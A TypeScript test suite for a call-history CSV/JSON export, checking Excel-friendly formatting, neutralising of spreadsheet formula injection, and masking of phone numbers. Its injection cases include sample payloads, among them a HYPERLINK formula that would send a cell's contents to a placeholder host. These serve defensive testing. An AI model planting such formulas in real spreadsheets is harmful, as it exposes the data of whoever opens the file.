import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { HistoryExport } from '../../../shared/history.ts';
import { journalEntrySchema } from '../../../shared/journal.ts';
import type { JournalEntry } from '../../../shared/journal.ts';
import { entryAt, everything, historyBench, linesOf } from './history-bench.ts';

async function exported(
  entries: readonly JournalEntry[],
  { format = 'csv', masked = false }: Partial<HistoryExport> = {},
): Promise<string> {
  const { history } = historyBench(entries.map(linesOf).join(''));
  const written = await history.export({ query: everything, format, masked });
  expect(written.rows).toBe(entries.length);
  expect(written.name).toBe(`baton-history-2026-03-15.${format}`);
  const pieces: string[] = [];
  for await (const piece of written.content) pieces.push(piece);
  return pieces.join('');
}

/** The cells of a file's only attempt by the names of their columns. */
async function cellsOf(entry: JournalEntry, masked = false): Promise<Record<string, string>> {
  const text = (await exported([entry], { masked })).replace(/^\uFEFF/, '');
  const { data, errors } = Papa.parse<Record<string, string>>(text.trimEnd(), { header: true });
  expect(errors).toEqual([]);
  return data[0] ?? {};
}

const labelCell = async (label: string) => (await cellsOf(entryAt(0, { label })))['Button'];

describe('the file for a spreadsheet', () => {
  it('begins with the mark by which Excel knows UTF-8, and ends its lines as Excel does', async () => {
    const bytes = Buffer.from(await exported([entryAt(0, { label: 'Büro' }), entryAt(1)]));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.match(/\r\n/g)).toHaveLength(3);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('"Büro"');
  });

  it('has every cell in quotes: what parts them elsewhere stands inside', async () => {
    const [, line = ''] = (await exported([entryAt(0, { label: 'a;b,c\t"d"' })])).split('\r\n');
    expect(line).toMatch(/^"[^"]*"(,"([^"]|"")*")+$/);
    expect(line).toContain('"a;b,c\t""d"""');
  });

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\u200B=1+1',
    '"=1+1',
    '=1+1\nmore',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    '=HYPERLINK("http://x.example/?"&A1)',
  ])('lets no formula run: %j', async (label) => {
    expect(await labelCell(label)).toMatch(/^'/);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; "=1+1', 'a; "\'=1+1'],
    ['a\t@SUM(1)', "a\t'@SUM(1)"],
    ['a,-1+1', "a,'-1+1"],
  ])('lets none run where cells are parted otherwise: %j', async (label, cell) => {
    expect(await labelCell(label)).toBe(cell);
  });

  it.each([
    '+18005551234',
    '0049301234567',
    '918005551234',
    '12E4',
    '3-15',
    '12:30',
    'SEP2',
    '1/2/26',
  ])('keeps %s as it is, and not as a number or a date', async (text) => {
    const cells = await cellsOf(entryAt(0, { destination: text, status: text }));
    expect([cells['Destination'], cells['Status']]).toEqual([`'${text}`, `'${text}`]);
  });

  it.each(['Billing', 'Dana, floor lead', '8600051', '1028', 'Y0315201639000402027', 'A-1'])(
    'leaves %s alone',
    async (text) => {
      expect(await labelCell(text)).toBe(text);
    },
  );

  it('says when by the clock of this computer and in UTC, and what became of it in words', async () => {
    const cells = await cellsOf(
      entryAt(0, {
        outcome: { kind: 'unknown', cause: 'timed-out' },
        settled: { as: 'happened', by: 'look', at: '2026-03-15T12:05:00.000Z' },
        tookMs: 3500,
      }),
    );
    expect(cells['Time']).toBe('2026-03-15 13:00:00');
    expect(cells['Time (UTC)']).toBe('2026-03-15T12:00:00.000Z');
    expect(cells['Outcome']).toBe('Handed over, by the look of it');
    expect(cells['Settled']).toBe('By a look at the dialer 2026-03-15 13:05:00');
    expect(cells['Milliseconds to the answer']).toBe('3500');
    expect(cells['Agent user']).toBe('1028');
  });

  it('holds the newest first, and those alone that are looked for', async () => {
    const { history } = historyBench([0, 1, 2].map((minute) => linesOf(entryAt(minute))).join(''));
    const query = { ...everything, before: entryAt(2).at };
    const { content, rows } = await history.export({ query, format: 'json', masked: false });
    let text = '';
    for await (const piece of content) text += piece;
    expect(rows).toBe(2);
    expect(text.match(/"attempt":"m\d"/g)).toEqual(['"attempt":"m1"', '"attempt":"m0"']);
  });
});

describe('the file for a program', () => {
  it('names its format, and holds the journal’s entries as they are', async () => {
    const entries = Array.from({ length: 250 }, (_, minute) => entryAt(minute));
    const file = JSON.parse(await exported(entries, { format: 'json' })) as Record<string, unknown>;
    expect(file).toEqual({ format: 'baton-history', version: 1, attempts: entries.toReversed() });
    expect(journalEntrySchema.array().safeParse(file['attempts']).success).toBe(true);
  });

  it('is whole where there is nothing to write', async () => {
    expect(JSON.parse(await exported([], { format: 'json' }))).toMatchObject({ attempts: [] });
    expect((await exported([])).split('\r\n')).toHaveLength(2);
  });
});

describe('numbers that are hidden', () => {
  const number = '918005551234';
  const entry = entryAt(0, {
    label: 'Dana (800) 555-1234',
    destination: '+1 (800) 555-1234',
    dialString: number,
    said: `SUCCESS: transfer - 1028|Y0315201639000402027|${number}|18005551234 SIP/x8005551234`,
  });

  it('show their last four digits and none before, wherever they stand', async () => {
    for (const format of ['csv', 'json'] as const) {
      const text = await exported([entry], { format, masked: true });
      expect(text).not.toMatch(/555\D{0,2}1234|5551234|800/);
      expect(text).toContain('••••••••1234');
      expect(text).toContain('Dana (•••) •••-1234');
      expect(text).toContain('+• (•••) •••-1234');
      expect(text).toContain('1028|Y0315201639000402027|••••••••1234|•••••••1234');
    }
  });

  it('stay where they are not to be hidden', async () => {
    expect(await exported([entry])).toContain(number);
  });

  it.each(['1-800-FLOWERS', '1800FLOWERS', '1 (800) Flowers'])(
    'show the last four of letters and digits alike: %s',
    async (destination) => {
      const dialString = destination.replace(/[^A-Za-z0-9]/g, '');
      const lettered = entryAt(0, {
        label: `Flowers for Dana, ${destination}, 800-FLOWERS`,
        destination,
        dialString,
        said: `SUCCESS: transfer - 1028|Y0315201639000402027|${dialString}|SIP/x9${dialString}`,
      });
      for (const format of ['csv', 'json'] as const) {
        const text = await exported([lettered], { format, masked: true });
        expect(text).not.toMatch(/800|0\W*flo/i);
        expect(text).toMatch(/1028\|Y0315201639000402027\|•{7}wers\|SIP\/x9•{7}wers/i);
        expect(text).toMatch(/Flowers for Dana, •[ (-]*•••[ )-]*•••wers, •••-•••WERS/i);
      }
      const cells = await cellsOf(lettered, true);
      expect(cells['Destination']).toMatch(/^•[ (-]*•••[ )-]*•••wers$/i);
      expect(cells['Dialled']).toMatch(/^•{7}wers$/i);
    },
  );

  it('are hidden in whatever digits they were typed', async () => {
    const arabic = entryAt(0, {
      label: 'Dana ٧٢٧-٥٥٥-٠١٩٩, desk ٨٦٠٠',
      destination: '٧٢٧٥٥٥٠١٩٩',
      dialString: '7275550199',
      said: 'SUCCESS: 7275550199',
    });
    expect(await cellsOf(arabic, true)).toMatchObject({
      Destination: '••••••٠١٩٩',
      Dialled: '••••••0199',
      Button: 'Dana •••-•••-٠١٩٩, desk ٨٦٠٠',
      'Dialer said': 'SUCCESS: ••••••0199',
    });
  });

  it('leave the words of a label that are letters of the number', async () => {
    const label = 'FLOWERS, 24 flowers a day';
    const cells = await cellsOf(
      entryAt(0, { label, destination: '1-800-FLOWERS', dialString: '1800FLOWERS' }),
      true,
    );
    expect(cells['Button']).toBe(label);
  });

  it('hide the digits of one whose letters the dialer drops', async () => {
    const dropped = entryAt(0, {
      label: 'Dana, 8005551234',
      destination: '800-555-1234 ext 5',
      dialString: '80055512345',
      said: 'SUCCESS: 80055512345',
    });
    expect(await cellsOf(dropped, true)).toMatchObject({
      Destination: '•••-•••-•••• ext 5',
      Dialled: '•••••••2345',
      Button: 'Dana, ••••••1234',
      'Dialer said': 'SUCCESS: •••••••2345',
    });
  });

  it('leave an in-group and an extension of four digits readable', async () => {
    const inGroup = entryAt(0, {
      action: 'in-group-transfer',
      destination: 'SALES2026',
      dialString: 'SALES2026',
      label: 'Sales 2026',
    });
    expect(await cellsOf(inGroup, true)).toMatchObject({
      Dialled: 'SALES2026',
      Button: 'Sales 2026',
    });
    const short = entryAt(0, { destination: '8600', dialString: '8600', label: 'Desk 8600' });
    expect(await cellsOf(short, true)).toMatchObject({ Dialled: '8600', Button: 'Desk 8600' });
  });

  it('hide a telephone number in the dialer’s words that is not the one dialled', async () => {
    const cells = await cellsOf(entryAt(0, { said: 'ERROR: caller 7275551212 gone' }), true);
    expect(cells['Dialer said']).toBe('ERROR: caller ••••••1212 gone');
  });
});
